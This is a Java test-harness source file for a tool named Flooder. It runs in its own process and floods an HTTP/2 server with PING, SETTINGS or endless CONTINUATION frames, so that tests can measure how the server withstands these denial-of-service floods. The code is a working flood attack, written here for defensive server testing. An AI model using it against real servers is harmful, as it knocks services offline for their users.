package io.streamkit.testing;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.concurrent.atomic.AtomicBoolean;

/**
 * An HTTP/2 flood attacker in its own process, so that a test measures what the flood costs the server rather than
 * what the attacker's own CPU costs the test's JVM (in production the attacker's CPU is not ours): run it with
 * {@code nice} beside the test. Usage: {@code Flooder PING|SETTINGS|CONTINUATION PORT}.
 *
 * <p>It reads commands from standard input, one per line: {@code on} starts flooding (a new connection whenever the
 * server closes the last), {@code off} closes the connection and waits, end of input exits. It writes one line per
 * event to standard output: {@code connected}, and {@code closed} when the server closed or reset a connection.
 *
 * <p>Paced: a batch of frames every 5 ms (20,000 PING frames a second, far above any legitimate rate).
 */
public final class Flooder {
  private static final int BATCH = 100;
  private static final long PACE_MILLIS = 5;

  private Flooder() {}

  public static void main(String[] args) throws Exception {
    if (args.length != 2) {
      System.err.println("usage: Flooder PING|SETTINGS|CONTINUATION PORT");
      System.exit(2);
    }
    String kind = args[0];
    int port = Integer.parseInt(args[1]);
    AtomicBoolean attacking = new AtomicBoolean();
    AtomicBoolean running = new AtomicBoolean(true);
    Thread attacker = new Thread(() -> attack(kind, port, attacking, running), "flooder");
    attacker.setDaemon(true);
    attacker.start();
    BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
    for (String line; (line = in.readLine()) != null; ) {
      attacking.set("on".equals(line.trim()));
    }
    running.set(false);
    attacker.join(5_000);
  }

  private static void attack(String kind, int port, AtomicBoolean attacking, AtomicBoolean running) {
    int streamId = 1;
    while (running.get()) {
      if (!attacking.get()) {
        pace();
        continue;
      }
      try (RawHttp2 c = RawHttp2.handshake(port)) {
        say("connected");
        while (running.get() && attacking.get()) {
          switch (kind) {
            case "PING" -> c.write(repeat(RawHttp2.frameBytes(RawHttp2.PING, 0, 0, new byte[8]), BATCH));
            // Ten times the batch of the others: the server cuts a SETTINGS flood off only at its limit of
            // 10,000 unanswered control frames.
            case "SETTINGS" ->
                c.write(repeat(RawHttp2.frameBytes(RawHttp2.SETTINGS, 0, 0, new byte[0]), 10 * BATCH));
            case "CONTINUATION" -> {
              byte[] block = RawHttp2.requestHeaderBlock("/streamkit.v1.StreamService/Chat");
              c.frame(RawHttp2.HEADERS, 0, streamId, block); // no END_HEADERS: CONTINUATION frames follow
              byte[] literal = new byte[1024];
              Arrays.fill(literal, (byte) 0x40); // never ends: literal header after literal header
              byte[] frame = RawHttp2.frameBytes(RawHttp2.CONTINUATION, 0, streamId, literal);
              streamId += 2;
              while (running.get() && attacking.get()) {
                c.write(repeat(frame, 16)); // until the server closes the connection and the write fails
                pace();
              }
            }
            default -> throw new IllegalArgumentException(
                "kind: " + kind + " (expected: PING, SETTINGS or CONTINUATION)");
          }
          pace();
        }
      } catch (IOException e) {
        say("closed"); // the server closed or reset this connection
      }
    }
  }

  private static synchronized void say(String event) {
    System.out.println(event);
    System.out.flush();
  }

  private static byte[] repeat(byte[] frame, int times) {
    byte[] out = new byte[frame.length * times];
    for (int i = 0; i < times; i++) {
      System.arraycopy(frame, 0, out, i * frame.length, frame.length);
    }
    return out;
  }

  private static void pace() {
    try {
      Thread.sleep(PACE_MILLIS);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
